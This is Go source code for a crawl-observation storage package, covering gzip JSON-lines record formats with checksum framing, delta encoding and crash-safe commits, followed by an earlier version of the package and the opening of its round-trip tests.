	JavaScript   bool `json:"js,omitempty"`
	CSS          bool `json:"css,omitempty"`
	Favicon      bool `json:"favicon,omitempty"`
	ImportedHTML bool `json:"imported,omitempty"`
	XML          bool `json:"xml,omitempty"`
	SVG          bool `json:"svg,omitempty"`
	Flash        bool `json:"flash,omitempty"`
	AXD          bool `json:"axd,omitempty"`
}

// Observation is everything recorded about one (domain, week) fetch.
type Observation struct {
	Domain string `json:"domain"`
	Rank   int    `json:"rank"`
	Week   int    `json:"week"`
	// Status is the HTTP status; 0 records a connection-level failure.
	Status int `json:"status"`
	// Bytes is the page size — the paper's 400-byte empty-page filter
	// needs it.
	Bytes int `json:"bytes"`
	// Country is the operator country (used by the Flash case study).
	Country string `json:"country,omitempty"`

	HasJS     bool          `json:"hasjs,omitempty"`
	WordPress string        `json:"wordpress,omitempty"`
	Libs      []LibRecord   `json:"libs,omitempty"`
	Flash     *FlashRecord  `json:"flashinfo,omitempty"`
	Resources ResourceFlags `json:"resources,omitempty"`
}

// OK reports whether the fetch produced a usable page: HTTP 200 and above
// the paper's 400-byte empty-page threshold.
func (o Observation) OK() bool { return o.Status == 200 && o.Bytes >= 400 }

// Lib returns the record for a library slug, if present.
func (o Observation) Lib(slug string) (LibRecord, bool) {
	for _, l := range o.Libs {
		if l.Slug == slug {
			return l, true
		}
	}
	return LibRecord{}, false
}

// Sink is the write side shared by the single-file and segmented stores.
type Sink interface {
	Write(Observation) error
	Count() int
	Close() error
}

// Record formats. The numbers double as manifest versions: a segmented
// store's manifest.Version is the format its segments are encoded in.
//
//	FormatPlain  (v1): plain gzip JSON lines, one observation per line.
//	FormatFramed (v2): every record preceded by a "#<len> <fnv1a-hex>\n"
//	                   frame; multi-member gzip, one member per commit.
//	FormatDelta  (v3): per-domain delta streams ('='/'~'/'^' records, see
//	                   delta.go) with whole-member FNV-1a checksums kept in
//	                   the checkpoint/manifest member table (members.go).
//	FormatBundle (v4): raw '!'-marked record lines whose content is opaque
//	                   to this package (the wexbundle package owns the
//	                   payload encoding); durability, checkpointing, member
//	                   checksums, and salvage behave exactly as v3.
//
// Readers sniff the format from the first decompressed byte of each
// stream, so all observation versions read through the same entry points;
// a v4 stream is not an observation store and decodeStream refuses it
// loudly instead of misparsing it.
const (
	FormatPlain  = 1
	FormatFramed = 2
	FormatDelta  = 3
	FormatBundle = 4
)

// formatHasMembers reports whether a format keeps the member-level
// checksum table (delta v3 and bundle v4).
func formatHasMembers(format int) bool {
	return format == FormatDelta || format == FormatBundle
}

// Writer streams observations to a gzip JSONL file. It is not safe for
// concurrent use; callers sharing one Writer must serialize Write.
//
// A framed (v2) writer precedes every record with a self-describing frame
// header — "#<len> <fnv1a-hex>\n" — so readers verify each record's
// length and checksum before handing it to a callback, and salvage can cut
// a torn file back to its last valid record. A delta (v3) writer encodes
// each domain's week N as a diff against its week N-1 and checksums whole
// compressed members instead of records. In both, the file is a
// concatenation of gzip members: commit (the week-boundary durability
// point) finishes the open member and fsyncs, and the next Write starts a
// fresh member, so a crash never tears a committed member.
type Writer struct {
	f   File
	gz  *gzip.Writer
	buf *bufio.Writer
	enc *json.Encoder
	n   int
	// format is the record encoding (FormatPlain/Framed/Delta); the zero
	// value writes plain v1, so a zero-value Writer keeps v1 semantics.
	format int
	// open tracks whether a gzip member is in progress; commit closes the
	// member and clears it, the next Write resets gz and sets it.
	open    bool
	scratch bytes.Buffer
	// hdr is the reusable header scratch: the longest v2 frame header —
	// "#<7 digits> <8 hex>\n" at maxFrameLen — is 18 bytes, and a v3
	// same-record prefix "~<week digits> " tops out near 21, so building
	// either here never allocates per record.
	hdr [24]byte

	// Delta (v3) state. mh sits between gz and f accounting the member in
	// progress; members accumulates the committed member table; lastN is
	// the record count at the last member boundary; prev is the per-domain
	// dictionary the delta encoder diffs against.
	mh      *memberHasher
	members []Member
	lastN   int
	prev    map[string]Observation
}

// Pools for the pieces every writer and reader re-creates: gzip
// compressor/decompressor state (the dominant allocation — the flate
// tables alone are hundreds of KiB) and the 64 KiB scan/flush buffers.
// All of them support Reset, so recycling is free of correctness risk.
var (
	gzwPool = sync.Pool{New: func() any { return gzip.NewWriter(io.Discard) }}
	// Framed (v2) segments compress at BestSpeed: the per-record checksum
	// frames are incompressible and poison the level-6 match search (+43%
	// write time measured), while at BestSpeed the whole framed write path
	// costs less than the unframed level-6 baseline — enabling crash
	// safety never slows a crawl down. The trade is ~1.6x archive size,
	// the usual write-ahead-log bargain. gzip.Writer.Reset keeps its
	// level, so the two pools must never mix.
	gzwFastPool = sync.Pool{New: func() any {
		gz, _ := gzip.NewWriterLevel(io.Discard, gzip.BestSpeed)
		return gz
	}}
	gzrPool  = sync.Pool{} // holds *gzip.Reader; empty Get means "make one"
	bufwPool = sync.Pool{New: func() any {
		return bufio.NewWriterSize(io.Discard, 1<<16)
	}}
	bufrPool = sync.Pool{New: func() any {
		return bufio.NewReaderSize(nil, 1<<16)
	}}
)

func newGzipReader(r io.Reader) (*gzip.Reader, error) {
	if v := gzrPool.Get(); v != nil {
		gz := v.(*gzip.Reader)
		if err := gz.Reset(r); err != nil {
			gzrPool.Put(gz)
			return nil, err
		}
		return gz, nil
	}
	return gzip.NewReader(r)
}

// Create opens a new observation file, truncating any existing one. The
// file uses the original unframed v1 encoding — plain gzip JSONL.
func Create(path string) (*Writer, error) {
	return createFile(osFS{}, path, FormatPlain)
}

// createFile opens a new observation file through fsys in the given
// record format.
func createFile(fsys FS, path string, format int) (*Writer, error) {
	f, err := fsys.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return nil, err
	}
	gz := gzwPoolFor(format).Get().(*gzip.Writer)
	buf := bufwPool.Get().(*bufio.Writer)
	w := &Writer{f: f, gz: gz, buf: buf, format: format, open: true}
	switch format {
	case FormatDelta:
		w.mh = &memberHasher{}
		w.mh.Reset(f)
		gz.Reset(w.mh)
		w.prev = make(map[string]Observation)
		w.enc = json.NewEncoder(buf)
	case FormatBundle:
		w.mh = &memberHasher{}
		w.mh.Reset(f)
		gz.Reset(w.mh)
	case FormatFramed:
		gz.Reset(f)
		w.enc = json.NewEncoder(&w.scratch)
	default:
		gz.Reset(f)
		w.enc = json.NewEncoder(buf)
	}
	buf.Reset(gz)
	return w, nil
}

// resumeFile reopens a segment at a committed byte offset: the torn tail
// past the offset is amputated, the record count restored, and the next
// Write starts a fresh gzip member exactly at the commit boundary. A
// resumed delta writer carries the committed member table forward and
// starts with an empty domain dictionary, so the first post-resume record
// of every domain is a full record — the decoder needs no cross-member
// history beyond what the stream itself establishes.
func resumeFile(fsys FS, path string, offset int64, count int, format int, members []Member) (*Writer, error) {
	f, err := fsys.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	size, err := f.Seek(0, io.SeekEnd)
	if err == nil && size < offset {
		err = fmt.Errorf("store: %s: %d bytes on disk, checkpoint committed %d — committed data is missing", path, size, offset)
	}
	if err == nil {
		err = f.Truncate(offset)
	}
	if err == nil {
		_, err = f.Seek(offset, io.SeekStart)
	}
	if err != nil {
		_ = f.Close()
		return nil, fmt.Errorf("store: %s: %w", path, err)
	}
	gz := gzwPoolFor(format).Get().(*gzip.Writer)
	buf := bufwPool.Get().(*bufio.Writer)
	buf.Reset(gz)
	w := &Writer{f: f, gz: gz, buf: buf, format: format, open: false, n: count}
	switch {
	case formatHasMembers(format):
		w.mh = &memberHasher{}
		w.mh.Reset(f)
		w.members = append([]Member(nil), members...)
		w.lastN = count
		if format == FormatDelta {
			w.prev = make(map[string]Observation)
			w.enc = json.NewEncoder(buf)
		}
	default:
		w.enc = json.NewEncoder(&w.scratch)
	}
	return w, nil
}

// Write appends one observation. Failed writes are not counted: Count
// reflects only observations the encoder accepted.
func (w *Writer) Write(obs Observation) error {
	if w.format == FormatBundle {
		return fmt.Errorf("store: Write on a bundle-format writer; bundles take WriteRaw")
	}
	w.reopenMember()
	switch w.format {
	case FormatFramed:
		return w.writeFramed(obs)
	case FormatDelta:
		return w.writeDelta(obs)
	}
	if err := w.enc.Encode(obs); err != nil {
		return err
	}
	w.n++
	return nil
}

// reopenMember starts a new gzip member at the committed boundary on the
// first write after a commit (or a resume).
func (w *Writer) reopenMember() {
	if w.open || w.gz == nil {
		return
	}
	if formatHasMembers(w.format) {
		w.gz.Reset(w.mh)
	} else {
		w.gz.Reset(w.f)
	}
	w.open = true
}

// WriteRaw appends one raw record line (without its trailing newline) to a
// bundle-format (v4) writer. The line must begin with the '!' bundle mark —
// the byte the read-side format sniff dispatches on — and must contain no
// newline; the wexbundle package, which owns the payload encoding,
// guarantees both by construction (JSON never embeds a raw newline).
func (w *Writer) WriteRaw(line []byte) error {
	if w.format != FormatBundle {
		return fmt.Errorf("store: WriteRaw on a format-%d writer; only bundles take raw records", w.format)
	}
	w.reopenMember()
	if _, err := w.buf.Write(line); err != nil {
		return err
	}
	if err := w.buf.WriteByte('\n'); err != nil {
		return err
	}
	w.n++
	return nil
}

// writeFramed appends a v2 record: the observation is encoded to the
// scratch buffer first so the frame header can carry the record's exact
// length and FNV-1a checksum.
func (w *Writer) writeFramed(obs Observation) error {
	w.scratch.Reset()
	if err := w.enc.Encode(obs); err != nil {
		return err
	}
	line := w.scratch.Bytes() // JSON payload + trailing '\n'
	payload := line[:len(line)-1]
	hdr := append(w.hdr[:0], frameMark)
	hdr = strconv.AppendInt(hdr, int64(len(payload)), 10)
	hdr = append(hdr, ' ')
	hdr = appendHex32(hdr, fnv1aSum(payload))
	hdr = append(hdr, '\n')
	if _, err := w.buf.Write(hdr); err != nil {
		return err
	}
	if _, err := w.buf.Write(line); err != nil {
		return err
	}
	w.n++
	return nil
}

// writeDelta appends a v3 record, diffing against the domain's previous
// observation. The common longitudinal case — a page unchanged since last
// week — emits a "~<week> <domain>" line without touching encoding/json;
// a changed page emits only its changed fields; a first sighting (or the
// first record after a resume reset the dictionary) emits a full record.
// The dictionary entry is only updated when the observation changed, so
// the fast path stays allocation-free.
func (w *Writer) writeDelta(obs Observation) error {
	prev, seen := w.prev[obs.Domain]
	switch {
	case seen && obs.Week >= 0 && obs.Week <= 1<<30 &&
		sameExceptWeek(&prev, &obs) && domainInline(obs.Domain):
		// The raw line encoding carries only non-negative in-range weeks
		// and newline-free domains; anything else (hostile or test input,
		// not real crawl data) takes the JSON-escaped delta path below.
		hdr := append(w.hdr[:0], sameMark)
		hdr = strconv.AppendInt(hdr, int64(obs.Week), 10)
		hdr = append(hdr, ' ')
		if _, err := w.buf.Write(hdr); err != nil {
			return err
		}
		if _, err := w.buf.WriteString(obs.Domain); err != nil {
			return err
		}
		if err := w.buf.WriteByte('\n'); err != nil {
			return err
		}
	case seen:
		d := diffObs(&prev, &obs)
		if err := w.buf.WriteByte(deltaMark); err != nil {
			return err
		}
		if err := w.enc.Encode(&d); err != nil {
			return err
		}
		w.prev[obs.Domain] = canonObs(obs).Clone()
	default:
		if err := w.buf.WriteByte(fullMark); err != nil {
			return err
		}
		if err := w.enc.Encode(obs); err != nil {
			return err
		}
		w.prev[obs.Domain] = canonObs(obs).Clone()
	}
	w.n++
	return nil
}

// Count returns the number of observations written so far.
func (w *Writer) Count() int { return w.n }

// commit makes everything written so far durable and self-delimiting: the
// buffered bytes are flushed, the open gzip member is finished (its footer
// makes the member independently decodable), and the file is fsynced. It
// returns the committed byte offset — the truncation point a resume or a
// salvage restores the file to. Writing may continue afterwards; the next
// Write opens a new gzip member.
func (w *Writer) commit() (int64, error) {
	if err := w.buf.Flush(); err != nil {
		return 0, err
	}
	if err := w.finishMember(); err != nil {
		return 0, err
	}
	if err := w.f.Sync(); err != nil {
		return 0, err
	}
	return w.f.Seek(0, io.SeekCurrent)
}

// finishMember closes the gzip member in progress, if any. For a delta
// writer this is also the checksum boundary: the member's compressed
// length, FNV-1a sum, and record count are appended to the member table
// and the hasher restarts for the next member.
func (w *Writer) finishMember() error {
	if !w.open {
		return nil
	}
	if err := w.gz.Close(); err != nil {
		return err
	}
	w.open = false
	if formatHasMembers(w.format) {
		w.members = append(w.members, Member{Len: w.mh.n, Sum: w.mh.sum, Records: w.n - w.lastN})
		w.lastN = w.n
		w.mh.Reset(w.f)
	}
	return nil
}

// Close flushes and closes the file. Closing (or aborting) twice is a
// no-op: a failed SegmentedWriter.Close is followed by Abort, which must
// not return already-recycled state to the pools again.
func (w *Writer) Close() error {
	if w.buf == nil {
		return nil
	}
	var first error
	keep := func(err error) {
		if err != nil && first == nil {
			first = err
		}
	}
	keep(w.buf.Flush())
	keep(w.finishMember())
	keep(w.f.Close())
	w.recycle()
	return first
}

// recycle returns the pooled pieces exactly once.
func (w *Writer) recycle() {
	if w.buf != nil {
		bufwPool.Put(w.buf)
		w.buf = nil
	}
	if w.gz != nil {
		gzwPoolFor(w.format).Put(w.gz)
		w.gz = nil
	}
}

// gzwPoolFor picks the compressor pool matching a writer's encoding: v2
// framed writers compress at BestSpeed (their checksum frames poison the
// level-6 match search), v1 and v3 at the default level — v3's delta
// streams are pure repetitive text, exactly what level 6 rewards.
func gzwPoolFor(format int) *sync.Pool {
	if format == FormatFramed {
		return &gzwFastPool
	}
	return &gzwPool
}

// abort closes the file without flushing buffered data — the simulated-
// crash path: whatever the OS already has (everything through the last
// commit, plus any incidentally flushed tail) stays on disk, everything
// still buffered in user space is lost, exactly as a SIGKILL would leave
// it.
func (w *Writer) abort() error {
	if w.buf == nil {
		return nil
	}
	err := w.f.Close()
	w.recycle()
	return err
}

// ForEach streams every observation of a store to fn, in file order. fn
// returning an error aborts the scan with that error. The path may be a
// single gzip JSONL file or a segmented store directory (see
// CreateSegmented); segmented stores are read segment by segment, in
// segment order. Read-side failures (missing file, truncated or corrupt
// gzip, malformed JSON) come back wrapped with a "store:" prefix naming
// the file; fn's own errors pass through unwrapped.
//
// Every ForEach path shares one pooled decoder: the Observation handed to
// fn reuses its Libs/Flash backing between calls, so fn must consume it
// before returning — a callback that retains an observation must keep
// obs.Clone(), not obs.
func ForEach(path string, fn func(Observation) error) error {
	if IsSegmented(path) {
		return ForEachSegmented(path, fn)
	}
	return forEachFile(path, fn)
}

// forEachFile scans one gzip JSONL file with the pooled decoder. The
// Observation handed to fn shares its Libs backing array with the
// previous call — fn must not retain it without Clone.
func forEachFile(path string, fn func(Observation) error) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	defer f.Close()
	gz, err := newGzipReader(f)
	if err != nil {
		return fmt.Errorf("store: %s: %w", path, err)
	}
	defer gzrPool.Put(gz)
	return decodeStream(gz, path, fn)
}

// frameMark is the first byte of a v2 record frame header. JSON records
// always start with '{', so one peeked byte tells the two encodings apart
// and v1 (unframed) stores keep reading through the same entry points.
const frameMark = '#'

// maxFrameLen bounds a frame's declared record length; a corrupt header
// must not turn into an arbitrary allocation.
const maxFrameLen = 16 << 20

// appendHex32 appends v as exactly 8 lowercase hex digits.
func appendHex32(dst []byte, v uint32) []byte {
	const digits = "0123456789abcdef"
	for shift := 28; shift >= 0; shift -= 4 {
		dst = append(dst, digits[(v>>uint(shift))&0xf])
	}
	return dst
}

// parseFrameHeader parses "#<len> <fnv1a-hex>\n" (hdr includes the '\n').
func parseFrameHeader(hdr []byte) (length int, sum uint32, ok bool) {
	if len(hdr) < 5 || hdr[0] != frameMark || hdr[len(hdr)-1] != '\n' {
		return 0, 0, false
	}
	i := 1
	for ; i < len(hdr) && hdr[i] >= '0' && hdr[i] <= '9'; i++ {
		length = length*10 + int(hdr[i]-'0')
		if length > maxFrameLen {
			return 0, 0, false
		}
	}
	if i == 1 || i >= len(hdr) || hdr[i] != ' ' {
		return 0, 0, false
	}
	j := i + 1
	for ; j < len(hdr)-1; j++ {
		c := hdr[j]
		switch {
		case c >= '0' && c <= '9':
			sum = sum<<4 | uint32(c-'0')
		case c >= 'a' && c <= 'f':
			sum = sum<<4 | uint32(c-'a'+10)
		default:
			return 0, 0, false
		}
	}
	if j == i+1 {
		return 0, 0, false
	}
	return length, sum, true
}

// frameReader strips and verifies record frames from a framed v2 stream,
// exposing only the verified JSONL payload bytes. No byte of a record is
// readable until its whole frame — length and FNV-1a checksum — has been
// verified, so a torn or bit-flipped record surfaces as a corrupt-stream
// error before any of it escapes to the decoder downstream.
type frameReader struct {
	br   *bufio.Reader
	path string
	rec  []byte // current verified record (payload + '\n') being drained
	off  int    // read cursor into rec
	err  error  // sticky: io.EOF at a clean frame boundary, else corrupt
}

func (fr *frameReader) Read(p []byte) (int, error) {
	for fr.off == len(fr.rec) {
		if fr.err != nil {
			return 0, fr.err
		}
		fr.next()
	}
	n := copy(p, fr.rec[fr.off:])
	fr.off += n
	return n, nil
}

// next reads and verifies the next frame into fr.rec, or sets fr.err.
func (fr *frameReader) next() {
	corrupt := func(format string, args ...any) {
		fr.err = fmt.Errorf("store: %s: corrupt stream: "+format, append([]any{fr.path}, args...)...)
	}
	hdr, err := fr.br.ReadSlice('\n')
	if err != nil {
		if errors.Is(err, io.EOF) {
			if len(hdr) == 0 {
				fr.err = io.EOF
				return
			}
			corrupt("torn frame header: %w", io.ErrUnexpectedEOF)
			return
		}
		corrupt("%w", err)
		return
	}
	length, sum, ok := parseFrameHeader(hdr)
	if !ok {
		corrupt("bad frame header %q", hdr[:len(hdr)-1])
		return
	}
	if cap(fr.rec) < length+1 {
		fr.rec = make([]byte, length+1)
	}
	rec := fr.rec[:length+1]
	if _, err := io.ReadFull(fr.br, rec); err != nil {
		if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
			corrupt("torn record: %w", io.ErrUnexpectedEOF)
		} else {
			corrupt("%w", err)
		}
		return
	}
	if rec[length] != '\n' {
		corrupt("frame length mismatch")
		return
	}
	if got := fnv1aSum(rec[:length]); got != sum {
		corrupt("record checksum mismatch (frame %08x, data %08x)", sum, got)
		return
	}
	fr.rec, fr.off = rec, 0
}

// decodeFramed decodes a v2 framed stream: every record is verified
// against its frame's length and FNV-1a checksum before fn sees it, so a
// torn or bit-flipped record can never leak a partial observation into a
// callback — the scan stops with a corrupt-stream error instead. The
// verified payload stream feeds one persistent json.Decoder (rather than
// a per-record Unmarshal, whose fresh decode/scanner state costs an
// allocation and ~300 B per record at archive-replay volume). The decoder
// only ever buffers whole verified records, so a frame error still
// surfaces after exactly the valid record prefix has been delivered.
func decodeFramed(br *bufio.Reader, path string, fn func(Observation) error) error {
	fr := &frameReader{br: br, path: path}
	dec := json.NewDecoder(fr)
	var obs Observation
	for {
		// Keep the Libs capacity; json.Decode refills it in place. The
		// reused slots must be zeroed first: decoding merges into existing
		// elements, so a field omitted by omitempty would otherwise keep
		// the previous record's value.
		libs := obs.Libs[:cap(obs.Libs)]
		clear(libs)
		obs = Observation{Libs: libs[:0]}
		if err := dec.Decode(&obs); err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			if err == fr.err {
				return err // already wrapped with the store path by frameReader
			}
			return fmt.Errorf("store: %s: corrupt stream: %w", path, err)
		}
		if err := fn(obs); err != nil {
			return err
		}
	}
}

// decodeStream decodes one gzip-decompressed JSONL stream, sniffing the
// encoding from its first byte: '#' selects the framed v2 decoder (every
// record checksum-verified), '='/'~'/'^' the delta v3 decoder, anything
// else the original plain JSONL decoder — so stores written before
// framing or deltas keep reading byte-identically. Decode-side errors are
// wrapped with the store prefix and path; callback errors are returned
// as-is. A stream cut mid-observation (truncated gzip footer, severed
// connection) surfaces as io.ErrUnexpectedEOF inside the wrap, so callers
// can distinguish corruption from a clean end of stream.
func decodeStream(r io.Reader, path string, fn func(Observation) error) error {
	br := bufrPool.Get().(*bufio.Reader)
	br.Reset(r)
	defer bufrPool.Put(br)
	if first, err := br.Peek(1); err != nil {
		if errors.Is(err, io.EOF) {
			return nil // empty stream: a store that committed zero records
		}
		return fmt.Errorf("store: %s: corrupt stream: %w", path, err)
	} else if first[0] == frameMark {
		return decodeFramed(br, path, fn)
	} else if first[0] == fullMark || first[0] == sameMark || first[0] == deltaMark {
		return decodeDelta(br, path, fn)
	} else if first[0] == BundleMark {
		return fmt.Errorf("store: %s: web-execution bundle (v4) segment — not an observation store; replay it with wexbundle", path)
	}
	dec := json.NewDecoder(br)
	var obs Observation
	for {
		// Keep the Libs capacity; json.Decode refills it in place. The
		// reused slots must be zeroed first: decoding merges into existing
		// elements, so a field omitted by omitempty would otherwise keep
		// the previous record's value.
		libs := obs.Libs[:cap(obs.Libs)]
		clear(libs)
		obs = Observation{Libs: libs[:0]}
		if err := dec.Decode(&obs); err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return fmt.Errorf("store: %s: corrupt stream: %w", path, err)
		}
		if err := fn(obs); err != nil {
			return err
		}
	}
}

// ReadAll loads a whole observation file into memory. Intended for tests
// and small datasets; large runs should use ForEach. Each observation is
// cloned out of the streaming decoder's reused buffers.
func ReadAll(path string) ([]Observation, error) {
	var out []Observation
	err := ForEach(path, func(o Observation) error {
		out = append(out, o.Clone())
		return nil
	})
	return out, err
}
