// Package store persists crawl observations.
//
// The paper's dataset is 157.2M landing pages over 201 weeks; keeping
// observations as raw HTML would be enormous, so the pipeline reduces every
// page to an Observation — the facts the analyses consume — and stores them
// as gzip-compressed JSON lines, one observation per line, ordered by week.
// Readers stream; nothing requires the dataset to fit in memory.
package store

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
)

// LibRecord is one detected library inclusion on a page.
type LibRecord struct {
	Slug    string `json:"slug"`
	Version string `json:"version,omitempty"`
	Known   bool   `json:"known,omitempty"`
	// External marks remote inclusion; Host is the serving host then.
	External bool   `json:"ext,omitempty"`
	Host     string `json:"host,omitempty"`
	// SRI marks an integrity attribute; Crossorigin its companion value.
	SRI         bool   `json:"sri,omitempty"`
	Crossorigin string `json:"crossorigin,omitempty"`
}

// FlashRecord is the Flash embedding state of a page.
type FlashRecord struct {
	ScriptAccessParam bool `json:"sap,omitempty"`
	Always            bool `json:"always,omitempty"`
	ViaSWFObject      bool `json:"swfobject,omitempty"`
	// Visible is false when every Flash embed is hidden/off-screen.
	Visible bool `json:"visible,omitempty"`
}

// ResourceFlags marks which of the top-8 resource types a page used.
type ResourceFlags struct {
	JavaScript   bool `json:"js,omitempty"`
	CSS          bool `json:"css,omitempty"`
	Favicon      bool `json:"favicon,omitempty"`
	ImportedHTML bool `json:"imported,omitempty"`
	XML          bool `json:"xml,omitempty"`
	SVG          bool `json:"svg,omitempty"`
	Flash        bool `json:"flash,omitempty"`
	AXD          bool `json:"axd,omitempty"`
}

// Observation is everything recorded about one (domain, week) fetch.
type Observation struct {
	Domain string `json:"domain"`
	Rank   int    `json:"rank"`
	Week   int    `json:"week"`
	// Status is the HTTP status; 0 records a connection-level failure.
	Status int `json:"status"`
	// Bytes is the page size — the paper's 400-byte empty-page filter
	// needs it.
	Bytes int `json:"bytes"`
	// Country is the operator country (used by the Flash case study).
	Country string `json:"country,omitempty"`

	HasJS     bool          `json:"hasjs,omitempty"`
	WordPress string        `json:"wordpress,omitempty"`
	Libs      []LibRecord   `json:"libs,omitempty"`
	Flash     *FlashRecord  `json:"flashinfo,omitempty"`
	Resources ResourceFlags `json:"resources,omitempty"`
}

// OK reports whether the fetch produced a usable page: HTTP 200 and above
// the paper's 400-byte empty-page threshold.
func (o Observation) OK() bool { return o.Status == 200 && o.Bytes >= 400 }

// Lib returns the record for a library slug, if present.
func (o Observation) Lib(slug string) (LibRecord, bool) {
	for _, l := range o.Libs {
		if l.Slug == slug {
			return l, true
		}
	}
	return LibRecord{}, false
}

// Writer streams observations to a gzip JSONL file.
type Writer struct {
	f   *os.File
	gz  *gzip.Writer
	buf *bufio.Writer
	enc *json.Encoder
	n   int
}

// Create opens a new observation file, truncating any existing one.
func Create(path string) (*Writer, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, err
	}
	gz := gzip.NewWriter(f)
	buf := bufio.NewWriterSize(gz, 1<<16)
	return &Writer{f: f, gz: gz, buf: buf, enc: json.NewEncoder(buf)}, nil
}

// Write appends one observation.
func (w *Writer) Write(obs Observation) error {
	w.n++
	return w.enc.Encode(obs)
}

// Count returns the number of observations written so far.
func (w *Writer) Count() int { return w.n }

// Close flushes and closes the file.
func (w *Writer) Close() error {
	var first error
	keep := func(err error) {
		if err != nil && first == nil {
			first = err
		}
	}
	keep(w.buf.Flush())
	keep(w.gz.Close())
	keep(w.f.Close())
	return first
}

// ForEach streams every observation of a file to fn, in file order. fn
// returning an error aborts the scan with that error.
func ForEach(path string, fn func(Observation) error) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	gz, err := gzip.NewReader(f)
	if err != nil {
		return fmt.Errorf("store: %s: %w", path, err)
	}
	defer gz.Close()
	return decodeStream(gz, fn)
}

func decodeStream(r io.Reader, fn func(Observation) error) error {
	dec := json.NewDecoder(bufio.NewReaderSize(r, 1<<16))
	for {
		var obs Observation
		if err := dec.Decode(&obs); err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return err
		}
		if err := fn(obs); err != nil {
			return err
		}
	}
}

// ReadAll loads a whole observation file into memory. Intended for tests
// and small datasets; large runs should use ForEach.
func ReadAll(path string) ([]Observation, error) {
	var out []Observation
	err := ForEach(path, func(o Observation) error {
		out = append(out, o)
		return nil
	})
	return out, err
}
