package store

import (
	"errors"
	"hash/fnv"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"sync"
	"testing"
)

// genObs builds a deterministic multi-domain observation stream with
// per-domain week-ascending order — the shape collection produces.
func genObs(domains, weeks int) []Observation {
	r := rand.New(rand.NewSource(42))
	var out []Observation
	for w := 0; w < weeks; w++ {
		for d := 0; d < domains; d++ {
			obs := Observation{
				Domain: "site" + itoa(d) + ".example",
				Rank:   d + 1, Week: w,
				Status: []int{200, 200, 200, 404, 0}[r.Intn(5)],
				Bytes:  400 + r.Intn(4000),
				HasJS:  r.Intn(2) == 0,
			}
			// Vary every omitempty field record-to-record: the reuse
			// decoder must not leak a stale field from the previous
			// record's slot into one that omitted it.
			for i := 0; i < r.Intn(4); i++ {
				rec := LibRecord{
					Slug:    []string{"jquery", "bootstrap", "moment"}[r.Intn(3)],
					Version: []string{"1.12.4", "3.3.7", "2.18.1", ""}[r.Intn(4)],
					Known:   r.Intn(3) > 0,
				}
				if r.Intn(2) == 0 {
					rec.External = true
					rec.Host = "cdn" + itoa(r.Intn(3)) + ".example"
					rec.SRI = r.Intn(2) == 0
					if rec.SRI {
						rec.Crossorigin = "anonymous"
					}
				}
				obs.Libs = append(obs.Libs, rec)
			}
			if r.Intn(6) == 0 {
				obs.Flash = &FlashRecord{Always: r.Intn(2) == 0, Visible: r.Intn(2) == 0}
			}
			if r.Intn(4) == 0 {
				obs.WordPress = "5.6"
			}
			out = append(out, obs)
		}
	}
	return out
}

func writeSegmented(t *testing.T, dir string, obs []Observation, segments int) {
	t.Helper()
	w, err := CreateSegmented(dir, segments)
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range obs {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if got := w.Count(); got != len(obs) {
		t.Fatalf("Count = %d, want %d", got, len(obs))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

// byDomain groups a stream per domain, preserving order.
func byDomain(obs []Observation) map[string][]Observation {
	m := make(map[string][]Observation)
	for _, o := range obs {
		m[o.Domain] = append(m[o.Domain], o)
	}
	return m
}

// TestSegmentedRoundTrip: every observation written comes back exactly
// once at every segment count, with per-domain order intact, through both
// the sequential and parallel readers and the transparent ForEach.
func TestSegmentedRoundTrip(t *testing.T) {
	want := genObs(23, 7)
	wantBy := byDomain(want)
	for _, segments := range []int{1, 2, 4, 8} {
		dir := filepath.Join(t.TempDir(), "store")
		writeSegmented(t, dir, want, segments)

		man, err := ReadManifest(dir)
		if err != nil {
			t.Fatal(err)
		}
		if man.Segments != segments || man.Total != len(want) {
			t.Fatalf("segments=%d: manifest %+v", segments, man)
		}

		readers := map[string]func(fn func(Observation) error) error{
			"ForEachSegmented": func(fn func(Observation) error) error {
				return ForEachSegmented(dir, fn)
			},
			"ForEach": func(fn func(Observation) error) error {
				return ForEach(dir, fn)
			},
		}
		for name, read := range readers {
			var got []Observation
			if err := read(func(o Observation) error {
				got = append(got, o.Clone())
				return nil
			}); err != nil {
				t.Fatalf("segments=%d %s: %v", segments, name, err)
			}
			checkSameByDomain(t, wantBy, byDomain(got))
		}

		// Parallel reader: concurrent callbacks, no-retain contract — copy
		// inside the callback before the decoder reuses the buffers.
		var mu sync.Mutex
		gotBy := make(map[string][]Observation)
		if err := ForEachSegmentedParallel(dir, func(seg int, o Observation) error {
			if want := ShardOf(o.Domain, segments); want != seg {
				t.Errorf("domain %s in segment %d, want %d", o.Domain, seg, want)
			}
			o.Libs = append([]LibRecord(nil), o.Libs...)
			mu.Lock()
			gotBy[o.Domain] = append(gotBy[o.Domain], o)
			mu.Unlock()
			return nil
		}); err != nil {
			t.Fatalf("segments=%d parallel: %v", segments, err)
		}
		checkSameByDomain(t, wantBy, gotBy)
	}
}

func checkSameByDomain(t *testing.T, want, got map[string][]Observation) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("domains: got %d, want %d", len(got), len(want))
	}
	for d, w := range want {
		g := got[d]
		// Normalize nil vs empty Libs (the reuse decoder yields empty).
		for i := range g {
			if len(g[i].Libs) == 0 {
				g[i].Libs = nil
			}
		}
		if !reflect.DeepEqual(g, w) {
			t.Fatalf("domain %s: round-trip mismatch\n got %+v\nwant %+v", d, g, w)
		}
	}
}

// TestSegmentedPartitionMatchesShardOf pins the layout contract: segment
// files contain exactly the domains ShardOf assigns them.
func TestSegmentedPartitionMatchesShardOf(t *testing.T) {
